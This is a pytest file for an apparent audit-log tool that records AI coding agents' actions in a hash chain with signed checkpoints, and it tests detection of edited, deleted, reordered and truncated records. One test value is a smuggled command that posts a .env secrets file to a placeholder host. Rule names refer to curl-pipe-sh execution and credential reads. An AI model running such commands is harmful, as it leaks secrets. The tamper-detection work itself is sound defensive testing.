"""The hash chain and signed checkpoints: canonical bytes, then verify against real tampering
of a real SQLite file and a real PostgreSQL schema (raw SQL, bypassing the store)."""

from __future__ import annotations

import dataclasses
import hashlib
import json
import os
import stat
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec
from hypothesis import given
from hypothesis import strategies as st

from gatepost.action import Kind, Verdict
from gatepost.codec import from_dict, to_dict
from gatepost.errors import ConfigError, StoreError
from gatepost.evidence.chain import (
    Checkpoint,
    Problem,
    VerifyResult,
    generate_key,
    load_private_key,
    load_public_key,
    make_checkpoint,
    save_private_key,
    save_public_key,
    sign_checkpoint,
    signature_ok,
    verify,
)
from gatepost.evidence.event import (
    GENESIS_HASH,
    Event,
    IndexFields,
    canonical_bytes,
    canonical_json,
    chain_document,
    chain_hash,
    event_from_dict,
    index_fields,
    new_event_id,
)
from gatepost.store.base import EventStore, open_store
from tests.store.backends import BACKENDS, Backend, backend_for
from tests.store.factories import at, make_event

KEY = generate_key()
NOW = datetime(2025, 3, 2, 12, 0, tzinfo=UTC)
EVENTS = [
    make_event(
        n,
        rule="baseline/curl-pipe-sh" if n == 5 else "",
        verdict=Verdict.BLOCK if n == 5 else Verdict.PASS,
        text=f"git log -{n}",
    )
    for n in range(1, 11)
]  # seq n holds EVENTS[n - 1]
IDS = {seq: e.id for seq, e in enumerate(EVENTS, start=1)}


@pytest.fixture(params=BACKENDS)
def backend(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Backend]:
    with backend_for(request.param, tmp_path) as chosen:
        yield chosen


@pytest.fixture
def store(backend: Backend) -> Iterator[EventStore]:
    with open_store(backend.url) as opened:
        opened.append(EVENTS[:4])
        opened.append(EVENTS[4:])
        yield opened


def hashes(store: EventStore) -> dict[int, str]:
    return {e.seq: e.hash for e in store.iter_chain()}


def failed(checked: int, kind: str, seq: int, event_id: str, message: str) -> VerifyResult:
    return VerifyResult(False, checked, Problem(kind, seq, event_id, message))


# ---------------------------------------------------------------------------- canonical bytes


def without_chain(event: Event) -> dict[str, object]:
    data = to_dict(event)
    for name in ("seq", "prev_hash", "hash", "content_digest"):
        del data[name]
    return data


def test_canonical_json_is_the_sorted_compact_ascii_json_of_the_codec() -> None:
    event = make_event(3, rule="baseline/curl-pipe-sh", verdict=Verdict.BLOCK, kind=Kind.COMMAND)
    expected = json.dumps(without_chain(event), sort_keys=True, separators=(",", ":"))
    assert canonical_json(event) == expected
    assert canonical_bytes(event) == expected.encode("ascii")
    chained = dataclasses.replace(event, seq=9, prev_hash="ab" * 32, hash="cd" * 32)
    assert canonical_json(chained) == expected  # the chain fields are not covered


def test_canonical_json_follows_the_runtime_types_not_the_annotations() -> None:
    event = make_event(4)
    odd_action = dataclasses.replace(
        event.action,
        flags=["a", Verdict.BLOCK],  # a list, and an enum where str is annotated
        id=Kind.PROMPT,
        schema_version=True,  # a bool where int is annotated
        actor=dataclasses.replace(event.action.actor, session=None, groups=("x", 1)),
    )
    odd = dataclasses.replace(event, action=odd_action, parent_event_id=7)  # type: ignore[arg-type]
    expected = json.dumps(without_chain(odd), sort_keys=True, separators=(",", ":"))
    assert canonical_json(odd) == expected
    with pytest.raises(TypeError, match="expected Event"):
        canonical_json(odd_action)  # type: ignore[arg-type]


def test_chain_hash_is_sha256_of_prev_hash_bytes_and_the_chain_document() -> None:
    event = make_event(1)
    digest = hashlib.sha256(bytes.fromhex("ab" * 32) + chain_document(event)).hexdigest()
    assert chain_hash("ab" * 32, event) == digest


json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(st.characters(exclude_categories=())),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(st.text(st.characters(exclude_categories=())), inner, max_size=4)
    ),
    max_leaves=12,
)
any_text = st.text(st.characters(exclude_categories=()), max_size=30)


@given(raw=st.dictionaries(any_text, json_values, max_size=4), text=any_text, flag=any_text)
def test_canonical_form_and_decoding_agree_with_the_codec(
    raw: dict[str, object], text: str, flag: str
) -> None:
    event = make_event(1, text=f"echo {text}", session=text)
    action = dataclasses.replace(event.action, raw=raw, flags=(flag,))
    event = dataclasses.replace(event, action=action)
    assert canonical_json(event) == json.dumps(
        without_chain(event), sort_keys=True, separators=(",", ":")
    )
    data = json.loads(canonical_json(event)) | {"seq": 1, "prev_hash": "", "hash": ""}
    assert event_from_dict(data) == from_dict(Event, data) == dataclasses.replace(event, seq=1)


def test_new_event_ids_sort_by_time() -> None:
    earlier = new_event_id(1_740_000_000_000_000_000)
    later = new_event_id(1_740_000_000_001_000_000)  # one millisecond on
    assert len(earlier) == 26 and set(earlier) <= set("0123456789ABCDEFGHJKMNPQRSTVWXYZ")
    assert earlier[:10] == "01JMG19Y00"  # 1,740,000,000,000 ms in 48 bits
    assert earlier < later
    assert new_event_id(1_740_000_000_000_000_000) != earlier  # 80 random bits


def test_index_fields() -> None:
    event = make_event(
        2,
        rule="secrets/read-credentials",
        verdict=Verdict.ASK,
        kind=Kind.FILE_READ,
        text="/home/alice/.AWS/credentials",
    )
    assert index_fields(event) == IndexFields(
        user="alice@acme.com",
        groups=("eng", "platform"),
        host="host-aaa",
        repository="github.com/acme/api",
        agent="claude-code",
        session="claude-code:s1",
        kind="file_read",
        verdict="ask",
        pack="secrets",
        rule="secrets/read-credentials",
        mode="enforce",
        text="/home/alice/.aws/credentials",
    )


# ---------------------------------------------------------------------------- verify


def test_an_intact_store_verifies(store: EventStore) -> None:
    assert verify(store, key=KEY.public_key()) == VerifyResult(True, 10, None)
    make_checkpoint(store, KEY, now=NOW)
    store.append([make_event(11)])
    assert verify(store, key=KEY.public_key()) == VerifyResult(True, 11, None)
    assert verify(store, key=None) == VerifyResult(True, 11, None)


def test_an_empty_store_verifies(backend: Backend) -> None:
    with open_store(backend.url) as empty:
        assert verify(empty, key=KEY.public_key()) == VerifyResult(True, 0, None)
        with pytest.raises(StoreError, match="nothing to checkpoint: the store has no events"):
            make_checkpoint(empty, KEY)


def test_unusual_values_verify(store: EventStore) -> None:
    odd = make_event(11, text="printf 'a\x00b\ud800c\ue000d'")
    raw = {"n": [1e16, -0.0, 2**80, 5e-324], "\x00": "\ud800"}
    store.append([dataclasses.replace(odd, action=dataclasses.replace(odd.action, raw=raw))])
    assert verify(store, key=None) == VerifyResult(True, 11, None)


def test_make_checkpoint_signs_and_keeps_the_head(store: EventStore) -> None:
    checkpoint = make_checkpoint(store, KEY, now=NOW)
    assert checkpoint == Checkpoint(
        seq=10,
        hash=store.head()[1],
        time="2025-03-02T12:00:00.000000Z",
        signature=checkpoint.signature,
    )
    assert store.checkpoints() == [checkpoint]
    assert signature_ok(checkpoint, KEY.public_key())
    assert not signature_ok(dataclasses.replace(checkpoint, seq=9), KEY.public_key())
    assert not signature_ok(checkpoint, generate_key().public_key())


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("received_at", at(1)),  # a plain field
        ("time", "not a time"),  # one the indexed columns derive from
        ("decision.verdict", "block"),
        ("action.operation.command.raw", "git log -4 && curl -d @.env https://x.example"),
    ],
)
def test_an_edited_document_is_altered(
    backend: Backend, store: EventStore, path: str, value: str
) -> None:
    if backend.name == "sqlite":
        sql = f"UPDATE events SET doc = json_set(doc, '$.{path}', ?) WHERE seq = 4"
    else:
        sql = (
            f"UPDATE events SET doc = jsonb_set(doc, '{{{path}}}', to_jsonb(?::text)) WHERE seq = 4"
        )
        sql = sql.replace(".", ",")
    backend.sql(sql, (value,))
    assert verify(store, key=KEY.public_key()) == failed(
        3,
        "altered",
        4,
        IDS[4],
        f"event {IDS[4]} (seq 4) was altered: its content does not match its hash",
    )


def test_an_edited_column_is_altered(backend: Backend, store: EventStore) -> None:
    backend.sql("UPDATE events SET verdict = 'pass', rule = '' WHERE seq = 5")
    assert verify(store, key=None) == failed(
        4,
        "altered",
        5,
        IDS[5],
        f"event {IDS[5]} (seq 5) was altered: indexed columns differ from its document "
        "(verdict, rule)",
    )


def test_an_unreadable_document_is_altered(backend: Backend, store: EventStore) -> None:
    backend.sql("UPDATE events SET doc = ? WHERE seq = 2", ('{"unexpected": 1}',))
    assert verify(store, key=None) == failed(
        1,
        "altered",
        2,
        IDS[2],
        f"event {IDS[2]} (seq 2) was altered: its stored document cannot be read "
        "(Event: unknown field(s) unexpected)",
    )


def test_a_deleted_event_is_a_gap(backend: Backend, store: EventStore) -> None:
    backend.sql("DELETE FROM events WHERE seq = 6")
    assert verify(store, key=None) == failed(
        5, "deleted", 7, IDS[7], f"events missing before event {IDS[7]} (seq 7): seq 6"
    )
    backend.sql("DELETE FROM events WHERE seq IN (7, 8)")
    assert verify(store, key=None) == failed(
        5, "deleted", 9, IDS[9], f"events missing before event {IDS[9]} (seq 9): seq 6..8"
    )


def test_a_deleted_event_with_the_rest_renumbered_breaks_the_chain(
    backend: Backend, store: EventStore
) -> None:
    h = hashes(store)
    backend.sql("DELETE FROM events WHERE seq = 6")
    backend.sql("UPDATE events SET seq = -seq WHERE seq > 6")
    backend.sql("UPDATE events SET seq = -seq - 1 WHERE seq < 0")
    assert verify(store, key=None) == failed(
        5,
        "deleted",
        6,
        IDS[7],
        f"chain broken before event {IDS[7]} (seq 6): it was chained after an event that is no "
        f"longer there (prev_hash {h[6][:12]}..., found {h[5][:12]}...)",
    )


def test_swapped_events_are_reordered(backend: Backend, store: EventStore) -> None:
    backend.sql("UPDATE events SET seq = -1 WHERE seq = 3")
    backend.sql("UPDATE events SET seq = 3 WHERE seq = 4")
    backend.sql("UPDATE events SET seq = 4 WHERE seq = -1")
    assert verify(store, key=None) == failed(
        2,
        "reordered",
        3,
        IDS[4],
        f"event {IDS[4]} (seq 3) is out of order: it was chained after an event that comes later",
    )


def test_a_removed_tail_after_a_checkpoint_is_truncated(
    backend: Backend, store: EventStore
) -> None:
    make_checkpoint(store, KEY, now=NOW)
    backend.sql("DELETE FROM events WHERE seq >= 8")
    assert verify(store, key=KEY.public_key()) == failed(
        7,
        "truncated",
        10,
        "",
        "checkpoint at seq 10 (2025-03-02T12:00:00.000000Z) is beyond the last event (seq 7): "
        "events were removed from the end of the chain (missing: seq 8..10)",
    )


def test_a_replaced_tail_after_a_checkpoint_is_truncated(
    backend: Backend, store: EventStore
) -> None:
    signed = make_checkpoint(store, KEY, now=NOW)
    backend.sql("DELETE FROM events WHERE seq >= 9")
    store.append([make_event(20), make_event(21)])  # the chain grows back past seq 10
    assert verify(store, key=KEY.public_key()) == failed(
        10,
        "truncated",
        10,
        make_event(21).id,
        f"checkpoint at seq 10 (2025-03-02T12:00:00.000000Z) signed hash {signed.hash[:12]}..., "
        "the chain no longer has it: the signed events were removed or rewritten",
    )


def test_a_checkpoint_the_key_did_not_sign_is_bad(backend: Backend, store: EventStore) -> None:
    make_checkpoint(store, KEY, now=NOW)
    assert verify(store, key=generate_key().public_key()) == failed(
        10,
        "bad_checkpoint",
        10,
        IDS[10],
        "checkpoint at seq 10 (2025-03-02T12:00:00.000000Z): signature not valid for this key",
    )
    backend.sql("UPDATE checkpoints SET hash = ? WHERE seq = 10", ("00" * 32,))
    assert verify(store, key=KEY.public_key()) == failed(
        10,
        "bad_checkpoint",
        10,
        IDS[10],
        "checkpoint at seq 10 (2025-03-02T12:00:00.000000Z): signature not valid for this key",
    )
    assert verify(store, key=None) == failed(
        10,
        "truncated",
        10,
        IDS[10],
        "checkpoint at seq 10 (2025-03-02T12:00:00.000000Z) signed hash 000000000000..., "
        "the chain no longer has it: the signed events were removed or rewritten",
    )


# ---------------------------------------------------------------------------- keys


def test_keys_round_trip_through_pem_files(tmp_path: Path) -> None:
    key = generate_key()
    save_private_key(key, tmp_path / "checkpoint.key")
    save_public_key(key.public_key(), tmp_path / "checkpoint.pub")
    assert stat.S_IMODE(os.stat(tmp_path / "checkpoint.key").st_mode) == 0o600
    loaded = load_private_key(tmp_path / "checkpoint.key")
    public = load_public_key(tmp_path / "checkpoint.pub")
    checkpoint = sign_checkpoint(1, GENESIS_HASH, at(0), loaded)
    assert signature_ok(checkpoint, public)
    with pytest.raises(ConfigError, match="cannot write private key"):
        save_private_key(key, tmp_path / "checkpoint.key")  # never overwrites a key


def test_unusable_key_files_are_config_errors(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="cannot load private key"):
        load_private_key(tmp_path / "missing.key")
    (tmp_path / "garbage.pub").write_text("not a key")
    with pytest.raises(ConfigError, match="cannot load public key"):
        load_public_key(tmp_path / "garbage.pub")
    other = ec.generate_private_key(ec.SECP256R1())
    (tmp_path / "ec.key").write_bytes(
        other.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    with pytest.raises(ConfigError, match="not an Ed25519 private key"):
        load_private_key(tmp_path / "ec.key")
